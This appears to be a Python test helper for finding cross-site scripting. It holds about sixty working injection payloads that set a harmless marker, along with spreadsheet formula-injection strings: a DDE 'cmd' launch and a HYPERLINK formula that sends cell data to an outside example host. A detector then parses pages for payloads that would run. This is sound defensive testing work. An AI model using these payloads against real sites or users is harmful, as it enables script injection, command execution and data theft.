"""Sixty kinds of text that would run as a script if a page wrote them unescaped, and what finds them there.

Each sets the global `pwn`. They are short, so that they fit into every name.
"""

import re
from collections.abc import Iterable
from html.parser import HTMLParser

MARK = "pwn"
PAYLOADS = (
    # Elements that are scripts
    "<script>pwn=1</script>",
    "<SCRIPT>pwn=1</SCRIPT>",
    "<script/x>pwn=1</script>",
    "</script><script>pwn=1</script>",
    "<script>pwn=1<!--",
    "<script src=data:,pwn=1></script>",
    "<script type=module>pwn=1</script>",
    "<scr<script>ipt>pwn=1</script>",
    "<svg><script>pwn=1</script></svg>",
    # Elements with a handler
    "<img src=x onerror=pwn=1>",
    '<img src=x onerror="pwn=1">',
    "<IMG SRC=x OnErRoR=pwn=1>",
    "<img/src=x/onerror=pwn=1>",
    "<img src=x onerror=pwn&#61;1>",
    "<image href=x onerror=pwn=1>",
    "<svg onload=pwn=1>",
    "<svg/onload=pwn=1>",
    "<svg><animate onbegin=pwn=1 attributeName=x>",
    "<body onload=pwn=1>",
    "<details open ontoggle=pwn=1>",
    "<input autofocus onfocus=pwn=1>",
    "<select autofocus onfocus=pwn=1>",
    "<video src=x onerror=pwn=1>",
    "<audio src=x onerror=pwn=1>",
    "<video><source onerror=pwn=1>",
    "<marquee onstart=pwn=1>",
    "<p onmouseover=pwn=1>x",
    # The end of what they stand in, then one of these
    '"><img src=x onerror=pwn=1>',
    "'><img src=x onerror=pwn=1>",
    "--><img src=x onerror=pwn=1>",
    "]]><img src=x onerror=pwn=1>",
    "</title><img src=x onerror=pwn=1>",
    "</textarea><img src=x onerror=pwn=1>",
    "</style><img src=x onerror=pwn=1>",
    "</select><img src=x onerror=pwn=1>",
    "</template><img src=x onerror=pwn=1>",
    # Elements that load or lead elsewhere
    '<iframe srcdoc="<script>top.pwn=1</script>">',
    "<iframe src=javascript:top.pwn=1>",
    "<object data='data:,<script>pwn=1</script>'>",
    "<embed src=javascript:pwn=1>",
    "<a href=javascript:pwn=1>x</a>",
    '<a href="&#106;avascript:pwn=1">x</a>',
    "<math><a xlink:href=javascript:pwn=1>x",
    "<form action=javascript:pwn=1><button>x",
    "<base href=javascript:pwn=1//>",
    "<meta http-equiv=refresh content=0;data:,pwn=1>",
    "<style>@import'data:,pwn=1'</style>",
    "<p style=background:url(javascript:pwn=1)>",
    # Another attribute of the element in whose attribute they stand, for scripts of the admin's theme too
    '" autofocus onfocus=pwn=1 x="',
    "' autofocus onfocus='pwn=1",
    '" x-init="pwn=1',
    '" hx-on:load="pwn=1',
    # An address
    "javascript:pwn=1",
    "JaVaScRiPt:pwn=1//",
    "data:text/html,<script>pwn=1</script>",
    # The end of a text within a script, and expressions of templates
    '";pwn=1;//',
    "';pwn=1;//",
    "{{constructor.constructor('pwn=1')()}}",
    # What becomes one of these if it is decoded once more
    "&lt;script&gt;pwn=2&lt;/script&gt;",
    # A formula of a spreadsheet
    '=HYPERLINK("javascript:pwn=1")',
)
# What a spreadsheet would take for a formula: as it is, by a sign that it folds, behind what it drops.
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://elsewhere.example?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\uff1d1+1",
    "\u22121+1",
    "\u200b=1+1",
)
# Kinds that no name takes: each holds a control character or a separator of lines.
REFUSED = ("java\tscript:pwn=1", "<img src=x\nonerror=pwn=1>", "<img src=x\0onerror=pwn=1>", "\u2028pwn=1//")

_ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc"}
_JSON = re.compile(r'(<script[^>]*type="application/json"[^>]*>)(.*?)(</script>)', re.DOTALL)
_SCHEME = re.compile(r"(javascript|data|vbscript):", re.IGNORECASE)
_BLANK = re.compile(r"[\x00-\x20]")


def packed(longest: int) -> list[str]:
    """Return all payloads in as few texts as hold them, each of at most so many characters."""
    texts = [""]
    for payload in PAYLOADS:
        if texts[-1] and len(texts[-1]) + 1 + len(payload) > longest:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return texts


def findings(page: str, payloads: Iterable[str] = PAYLOADS) -> list[str]:
    """Return what of a page is a payload that could run."""
    data = [found[2] for found in _JSON.finditer(page)]
    found = [f"JSON in a script: {one}" for one in data if re.search("[<>]", one)]
    markup = _JSON.sub(r"\1\3", page)
    found += [f"as it is: {one}" for one in payloads if set(one) & set("<>\"'&") and one in markup]
    parser = _Parser()
    parser.feed(page)
    parser.close()
    return found + parser.found


class _Parser(HTMLParser):
    """Collects scripts, handlers and addresses that hold a payload's mark."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script" and dict(attrs).get("type") != "application/json"
        self.found += [f"{tag} {name}={value}" for name, value in attrs if _runs(name, value or "")]

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and MARK in data:
            self.found.append(f"in a script: {data}")


def _runs(name: str, value: str) -> bool:
    if MARK not in value:
        return False
    is_handler = name.startswith(("on", "x-", "hx-", "@", ":", "style"))
    leads_to_script = name in _ADDRESSES and _SCHEME.match(_BLANK.sub("", value))
    return is_handler or bool(leads_to_script)
